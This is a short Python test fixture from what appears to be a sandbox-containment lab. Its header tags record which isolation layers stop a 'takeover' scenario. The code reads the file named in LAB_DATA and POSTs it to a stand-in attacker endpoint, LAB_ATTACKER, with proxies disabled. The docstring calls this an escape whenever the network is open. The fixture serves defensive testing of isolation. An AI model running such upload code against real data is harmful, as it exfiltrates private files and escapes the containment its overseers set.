# lab:title: Declares a host takeover, only uploads the data
# lab:threat: takeover
# lab:layer: isolation
# lab:consequence: test
# adversary: --off network => ESCAPED exfil
# adversary: --off isolation => BROKE
# adversary: --on all => BROKE ~ no attempt
"""The header points at Isolation; the code never goes near the host target
and ships the CSV to LAB_ATTACKER instead. With the network open that is
an escape, whichever layer the header names; with it shut, the declared
takeover made no attempt."""
import os
import urllib.request

try:
    body = open(os.environ["LAB_DATA"], "rb").read()
    req = urllib.request.Request(os.environ["LAB_ATTACKER"], data=body, method="POST")
    urllib.request.build_opener(urllib.request.ProxyHandler({})).open(req, timeout=3).read()
    print("upload done", flush=True)
except Exception as e:
    print("upload failed:", e, flush=True)
